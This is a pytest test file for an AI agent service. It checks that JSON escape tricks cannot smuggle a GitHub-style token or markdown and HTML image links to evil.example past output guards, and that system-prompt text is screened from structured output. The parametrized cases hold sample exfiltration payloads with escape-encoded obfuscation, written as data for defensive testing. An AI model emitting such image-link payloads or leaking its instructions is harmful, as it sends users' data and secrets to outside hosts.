"""What JSON can hide of a structured answer is taken out of its stream, of its message and of the run's output."""

from __future__ import annotations

from typing import Any

import msgspec
import pytest

from app.domain.principals import ANONYMOUS
from app.domain.screening import Screening
from app.runs.service import StartRun
from tests.runs.conftest import react
from tests.scripted import ScriptedProvider, says

KEY = "ghp_aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3zA5"
SCHEMA = {"type": "object", "properties": {"x": {"type": "string"}}, "required": ["x"]}
SECRET_WORDS = "\n".join(f"word{n}" for n in range(40))


@pytest.mark.parametrize("pieces", [1, 1_000])
@pytest.mark.parametrize(
    ("text", "output", "guard"),
    [
        ('{"x":"gh\\u0070_%s"}' % KEY[4:], "ghp_[secret removed]", "secret"),  # noqa: UP031
        ('{"x":"![a](https:\\/\\/evil.example\\/p?d=s)"}', "! [a](https://evil.example/p?d=s)", "link"),
        ('{"x":"!\\u005ba](https:\\u002f\\u002fevil.example/p?d=s)"}', "! [a](https://evil.example/p?d=s)", "link"),
        ('{"x":"<img src=\\"\\u0068ttps://evil.example/\\">"}', '< img src="https://evil.example/">', "link"),
        ('{"x":"\\ud83d\\ude00 caf\\u00e9 \\n\\u0022"}', '\U0001f600 café \n"', None),
    ],
)  # fmt: skip
async def test_escapes_hide_nothing(start_process: Any, text: str, output: str, guard: str | None, pieces: int) -> None:
    provider = ScriptedProvider(says(text, pieces=min(pieces, len(text))))
    async with start_process(provider, react(output_schema=SCHEMA)) as p:
        started = await p.service.start(ANONYMOUS, StartRun(input="go", session_id="s"))
        said = ""
        async for batch in p.service.follow(started):
            said += "".join(msgspec.json.decode(i.payload)["text"] for i in batch if i.name == "message.delta")
        end = await p.service.result(started)
        assert end.output == {"x": output}
        assert msgspec.json.decode(said) == {"x": output}
        completed = [e for e in await p.events(started.run_id) if e.name == "message.completed"]
        assert msgspec.json.decode(completed[-1].payload)["message"]["content"] == said
        assert p.notes.guards == ([] if guard is None else [(guard, "removed")])


async def test_words_apart_by_escapes_are_a_leak_in_the_output(start_process: Any) -> None:
    text = msgspec.json.encode({"x": SECRET_WORDS}).decode()
    for output, leaks in (("secrets", False), ("off", True)):
        agent = react(output_schema=SCHEMA, instructions=SECRET_WORDS, safety=Screening(output=output))  # type: ignore[arg-type]
        async with start_process(ScriptedProvider(says(text)), agent) as p:
            end = await p.service.result(await p.service.start(ANONYMOUS, StartRun(input="go", session_id="s")))
            assert ("word30" in end.output["x"]) is leaks
